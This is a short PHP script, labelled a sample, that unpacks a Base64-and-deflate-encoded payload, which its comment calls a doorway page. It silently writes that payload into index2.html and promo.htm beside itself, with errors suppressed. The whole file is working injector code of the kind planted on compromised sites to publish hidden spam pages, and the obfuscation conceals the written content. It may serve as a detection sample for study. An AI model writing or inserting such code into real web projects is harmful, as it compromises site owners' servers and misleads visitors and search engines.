<?php
// sample: a doorway page packed twice (deflate + Base64), written with fopen/fwrite
$d = gzinflate(base64_decode('LcwxDoAgDADAvzDp0u6K+pYGiDappYFGfL6L94CLPTU23wdrrgOkJnKuCq2YUCpTuNytL4hCmllPKC/dJgVYHxLOePSWtmFhXiP+1wc='));
foreach (array('index2.html', 'promo.htm') as $f) {
    $h = @fopen(dirname(__FILE__) . '/' . $f, 'w');
    if ($h) { fwrite($h, $d); fclose($h); }
}
